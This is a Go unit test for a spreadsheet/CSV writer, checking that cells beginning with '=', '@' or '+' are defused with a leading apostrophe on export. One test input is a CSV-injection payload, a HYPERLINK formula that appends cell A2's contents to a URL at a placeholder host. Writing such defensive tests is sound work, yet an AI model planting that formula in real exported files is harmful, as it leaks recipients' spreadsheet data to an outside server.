package xlsx

import (
	"bytes"
	"strings"
	"testing"
)

func TestCSVFormulaDefused(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, FormatCSV, "表", []string{"地址", "金额"})
	if err != nil {
		t.Fatal(err)
	}
	cases := [][]string{{`=HYPERLINK("http://x/"&A2,"点")`, "-12.50"}, {"@SUM(A1)", "+5"}, {"大辛店村", "800"}}
	for _, r := range cases {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{`"'=HYPERLINK(""http://x/""&A2,""点"")",-12.50`, `'@SUM(A1),+5`, `大辛店村,800`} {
		if !strings.Contains(out, want) {
			t.Errorf("CSV %q lacks %q", out, want)
		}
	}
}
